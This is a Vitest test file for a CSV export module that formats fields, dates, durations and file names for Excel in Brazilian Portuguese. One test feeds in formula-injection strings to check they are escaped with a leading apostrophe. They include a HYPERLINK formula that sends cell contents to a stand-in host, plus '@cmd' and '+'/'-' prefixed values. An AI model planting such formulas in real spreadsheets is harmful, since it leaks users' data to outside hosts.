import { describe, expect, it } from "vitest";
import { csvDate, csvDay, csvField, csvSafeText, csvFileName, csvItems, csvLine, csvMinutes, csvMinutesBetween, csvText } from "./csv.js";

describe("CSV as Excel pt-BR reads it", () => {
  it("quotes only the fields holding a separator, a quote or a line break, doubling the quotes", () => {
    expect(csvField("Loja Centro")).toBe("Loja Centro");
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField('Tênis "Corrida"')).toBe('"Tênis ""Corrida"""');
    expect(csvField("linha\nnova")).toBe('"linha\nnova"');
    expect(csvField(null)).toBe("");
    expect(csvField(0)).toBe("0");
  });

  it("writes a text cell that would start a formula with a leading ', and a number as a number", () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1;"Clique")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1;""Clique"")"`);
    expect(csvField("+5511999999999")).toBe("'+5511999999999");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1:A2)")).toBe("'@SUM(A1:A2)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("Maria = Silva")).toBe("Maria = Silva");
    expect(csvField(-3)).toBe("-3");
    expect(csvField(12.5)).toBe("12.5");
    expect(csvSafeText("")).toBe("");
    expect(csvLine(["=1+1", 2])).toBe("'=1+1;2\r\n");
    expect(csvText(["Cliente"], [["@cmd"]])).toBe("\uFEFFCliente\r\n'@cmd\r\n");
  });

  it("ends every line with CRLF and starts the file with a BOM", () => {
    expect(csvLine(["a", 1, null])).toBe("a;1;\r\n");
    expect(csvText(["Loja", "Listas"], [["A;B", 2]])).toBe('\uFEFFLoja;Listas\r\n"A;B";2\r\n');
  });

  it("writes dates as dd/MM/yyyy HH:mm:ss in the chain's time zone, and item lists with ' | '", () => {
    expect(csvDate("2026-03-01T02:00:00Z", "America/Sao_Paulo")).toBe("28/02/2026 23:00:00");
    expect(csvDate(null, "America/Sao_Paulo")).toBe("");
    expect(csvItems(["A1", "B2"])).toBe("A1 | B2");
  });

  it("writes a date-only field without a time", () => {
    expect(csvDay("2026-11-27T03:00:00Z", "America/Sao_Paulo")).toBe("27/11/2026");
    expect(csvDay(null, "America/Sao_Paulo")).toBe("");
  });

  it("writes durations as numbers of minutes, with a decimal comma", () => {
    expect(csvMinutes(750)).toBe("12,5");
    expect(csvMinutes(3600)).toBe("60");
    expect(csvMinutes(null)).toBe("");
    expect(csvMinutesBetween("2026-11-27T10:00:00Z", "2026-11-27T11:30:20Z")).toBe("90,3");
    expect(csvMinutesBetween("2026-11-27T10:00:00Z", null)).toBe("");
  });

  it("names a file with the period it covers", () => {
    expect(csvFileName("historico-de-envios", { from: "2026-11-01", to: "2026-11-27" }, "2026-11-30")).toBe("historico-de-envios_2026-11-01_a_2026-11-27.csv");
    expect(csvFileName("devolucoes", { from: "2026-11-01" }, "2026-11-30")).toBe("devolucoes_desde_2026-11-01.csv");
    expect(csvFileName("devolucoes", { to: "2026-11-27" }, "2026-11-30")).toBe("devolucoes_ate_2026-11-27.csv");
    expect(csvFileName("devolucoes", {}, "2026-11-30")).toBe("devolucoes_ate_2026-11-30.csv");
  });
});
